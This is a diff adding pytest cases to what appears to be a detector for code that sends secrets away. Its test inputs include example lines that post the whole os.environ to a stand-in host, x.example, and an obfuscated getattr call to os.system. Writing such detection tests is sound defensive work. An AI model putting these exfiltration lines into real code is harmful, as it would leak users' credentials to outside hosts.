@@ -88,6 +88,35 @@ def test_secrets_and_a_connection_in_one_file_are_told_together() -> None:
     assert [site.sentence for site in found] == ["reads secrets in line 2 and can send them away in line 3"]
 
 
+@pytest.mark.parametrize(
+    "call",
+    [
+        "requests.post('https://x.example', data=dict(os.environ))",
+        "requests.post('https://x.example', json={**os.environ})",
+        "requests.get('https://x.example', params=os.environ)",
+        "requests.post('https://x.example', str(e.copy()))",
+        "requests.post('https://x.example', data=held)",
+    ],
+)
+def test_environment_that_is_sent_away_is_told(call: str) -> None:
+    source = f"import os, requests\nfrom os import environ as e\nheld = dict(os.environ)\ndef f(): {call}"
+    found = [site for site in find_calls(source.encode()) if site.kind == "exfiltration"]
+    assert [(site.line, site.severity) for site in found] == [(4, Severity.CRITICAL)]
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        "requests.post(os.environ['HOST'], data=x)",
+        "requests.get('https://x.example', headers={'A': os.environ.get('A')})",
+        "subprocess.run(['ls'], env=dict(os.environ))",
+    ],
+)
+def test_environment_that_is_asked_for_one_name_is_not_sent(call: str) -> None:
+    source = f"import os, requests, subprocess\ndef f(x): {call}"
+    assert "exfiltration" not in {site.kind for site in find_calls(source.encode())}
+
+
 def test_names_that_stand_for_each_other_are_read_in_time() -> None:
     chain = "".join(f"a{n + 1} = a{n} + a{n} + a{n}\n" for n in range(60))
     assert find_calls(f"import os\na0 = ''\n{chain}getattr(os, a60 + 'system')('x')".encode())
